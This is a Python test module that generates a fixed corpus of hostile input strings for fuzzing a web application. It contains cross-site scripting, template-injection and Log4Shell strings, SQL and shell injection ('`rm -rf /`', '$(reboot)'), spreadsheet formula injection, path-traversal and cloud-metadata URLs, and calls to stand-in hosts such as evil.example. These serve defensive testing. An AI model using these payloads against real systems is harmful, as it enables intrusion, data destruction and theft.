"""A corpus of hostile text: what a prankster, a script or an unlucky paste can send.

Deterministic: the same 1,000+ strings on every run, built from payloads of each kind and the
ways they arrive (alone, inside a sentence, repeated, with a formula start in front).
"""

from functools import cache

#: A script that runs sets this; the browser test checks it is never set.
CANARY = "window.__pwned=1"

MARKUP = [
    f"<script>{CANARY}</script>",
    f"<img src=x onerror={CANARY}>",
    f'<img src="x" onerror="{CANARY}">',
    f"<svg onload={CANARY}>",
    f"<svg><script>{CANARY}</script></svg>",
    f'"><script>{CANARY}</script>',
    f"'><img src=x onerror={CANARY}>",
    f"</textarea><script>{CANARY}</script>",
    f"</title><script>{CANARY}</script>",
    f'<iframe srcdoc="<script>parent.{CANARY}</script>"></iframe>',
    f'<a href="javascript:{CANARY}">klik hier</a>',
    f"javascript:{CANARY}",
    f"JaVaScRiPt:{CANARY}",
    f"data:text/html,<script>{CANARY}</script>",
    f'<body onload="{CANARY}">',
    f'<details open ontoggle="{CANARY}">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={CANARY}>",
    '<div style="position:fixed;inset:0;background:red;z-index:99999">overlay</div>',
    "<marquee>loopt weg</marquee><blink>knipper</blink>",
    "<h1>groot</h1><b>vet</b><i>schuin</i>",
    "<!-- verborgen --> zichtbaar",
    "<![CDATA[ ]]>",
    "&lt;script&gt; &amp; &#60;b&#62; &#x3C;",
    '<form action="https://phish.example"><input name=pw></form>',
    '<meta http-equiv="refresh" content="0;url=https://phish.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<object data="file:///etc/passwd"></object>',
]
CSS_AND_FILES = [
    "<style>body{background:url(http://tracker.example/p.png)}</style>",
    "background:url(file:///etc/passwd)",
    "url(http://tracker.example/pixel.gif)",
    "@import url(http://evil.example/x.css);",
    '@import "file:///etc/passwd";',
    "@font-face{font-family:x;src:url(file:///etc/shadow)}",
    "expression(alert(1))",
    "file:///etc/passwd",
    "file:///C:/Windows/win.ini",
    "\\\\server\\share\\geheim.txt",
    "../../../../etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    '<img src="file:///etc/hostname">',
    "<link rel=icon href=//tracker.example/f.ico>",
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{{ config.items() }}",
    "{{ record.digest }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(99999999) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# commentaar #}",
    "${7*7}",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{this.state.key}",
    "{window.location}",
    f"{{{{constructor.constructor('{CANARY}')()}}}}",
    "[[${7*7}]]",
    "{0}{1}{name}",
    "%s%s%s%n",
    "{PAGE}",
    "{{PAGE}}",
    "{INSIGHT_MAX}",
]
FORMULAS = [
    '=HYPERLINK("http://x.example","klik")',
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("http://x.example","//a")',
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
    "+31 6 12345678",
    "-- geen idee",
    "@iedereen",
    "＝1+1",
]
BIDI = [
    "\u202eevil\u202c ok",
    "\u202egnp.exe",
    "abc\u202e",
    "\u202a\u202b\u202c\u202d\u202e",
    "\u2066links",
    "rechts\u2069",
    "\u2067שלום\u2069 en verder",
    "\u2068\u2068\u2068",
    "\u200ftekst\u200e",
    "\u061cعربي",
    "if (admin\u202e \u2066// check\u2069 \u2066) {",
]
INVISIBLE = [
    "\u200b",
    "\u200b\u200c\u200d\ufeff",
    "a\u200bb\u200cc\u200dd",
    "\ufeffBOM vooraan",
    "\u2060\u2061\u2062\u2063\u2064",
    "\u3164",
    "\u115f\u1160",
    "\u2800\u2800",
    "\u00ad",
    "\u180e",
    "\U000e0001\U000e0041",
    "\ufe0f\ufe0f",
    "\u034f",
]
ZALGO_MARKS = "\u0300\u0301\u0302\u0303\u0308\u030a\u0336\u0337\u0338\u0489\u20dd\u0323"
ZALGO = [
    "".join(letter + ZALGO_MARKS * 3 for letter in "ZALGO"),
    "H" + ZALGO_MARKS * 20 + "e",
    ZALGO_MARKS,
    "\u0301",
    "e\u0301\u0302",
    "Tiếng Việt có dấu",
    "בְּרֵאשִׁית",
    "بِسْمِ ٱللَّٰهِ",
    "ก้้้้้้้้้้้้",
    "\u0e01\u0e34\u0e48\u0e49",
]
EMOJI = [
    "👩‍👩‍👧‍👦",
    "👨🏿‍🦱",
    "👍🏻👍🏼👍🏽👍🏾👍🏿",
    "🇳🇱🇹🇷🇵🇱🇸🇾",
    "🏳️‍🌈🏳️‍⚧️",
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "1️⃣#️⃣*️⃣",
    "❤️‍🔥",
    "🫩🫆",
    "😀" * 40,
    "🧑‍🤝‍🧑" * 10,
]
LONG = [
    "A" * 400,
    "W" * 400,
    "😀" * 400,
    "ﷺ" * 400,
    "https://example.org/" + "a" * 380,
    "Arbeidsongeschiktheidsverzekeringsuitkeringsaanvraagformulier" * 7,
    "x" * 501,
    "y" * 1001,
    "z" * 5000,
    "woord " * 200,
    "\n" * 50 + "na de witregels",
    ("lange regel " * 30 + "\n") * 20,
]
BLANK = [
    "",
    " ",
    "   \n\t  ",
    "\n\n\n",
    "\u00a0",
    "\u3000",
    "\u2028\u2029",
    "\u2002\u2003\u2009",
    "\t",
]
CONTROLS = [
    "\x00",
    "a\x00b",
    "\x1b[31mrood\x1b[0m",
    "\x07\x08\x0b\x0c",
    "\x7f",
    "\x85\x9b",
    "regel\r\nregel",
    "\x00" * 50 + "x",
    "".join(chr(c) for c in range(32)),
    "\ud800",
    "a\udfffb",
    "\ud83d",
    "\uffff\ufffe",
]
SQL_AND_QUOTES = [
    "'; DROP TABLE insight; --",
    '" OR 1=1 --',
    "Robert'); DROP TABLE participant;--",
    "1' UNION SELECT token_hash FROM participant --",
    "`rm -rf /`",
    "$(reboot)",
    "\\",
    "\\x00\\n\\u0000",
    "'\"`<>&",
    "NULL",
    "None",
    "undefined",
    "true",
    "0",
    "-0",
    "1e309",
    "[]",
    "{}",
    '{"__proto__": {"polluted": 1}}',
]
RTL_AND_SCRIPTS = [
    "مرحبا، الانتظار طويل 123 جدا",
    "שלום, חיכיתי 45 דקות",
    "Beklemek: ğışİ",
    "ąęłńśźż",
    "等待时间太长了",
    "ሰላም",
    "नमस्ते",
    "Привет",
    "Ελληνικά",
]

PAYLOADS = (
    MARKUP
    + CSS_AND_FILES
    + TEMPLATES
    + FORMULAS
    + BIDI
    + INVISIBLE
    + ZALGO
    + EMOJI
    + LONG
    + BLANK
    + CONTROLS
    + SQL_AND_QUOTES
    + RTL_AND_SCRIPTS
)

#: The ways a payload arrives: alone, in a sentence, twice, behind a formula start, padded.
ARRIVALS = (
    "{}",
    "De bus kwam niet. {}",
    "{} en toen belde ik de gemeente",
    "{}{}",
    "={}",
    "@{}",
    "  {}  ",
    "{}\n{}",
    "\u202e{}",
    "{}\u200b",
)


@cache
def hostile_strings() -> tuple[str, ...]:
    """Every payload in every arrival, once each, in a fixed order."""
    seen: dict[str, None] = {}
    for payload in PAYLOADS:
        for arrival in ARRIVALS:
            seen.setdefault(arrival.replace("{}", payload), None)
    return tuple(seen)


def sample(count: int) -> list[str]:
    """`count` strings spread over the whole corpus (every kind of payload appears)."""
    corpus = hostile_strings()
    step = len(corpus) / count
    return [corpus[int(index * step)] for index in range(count)]
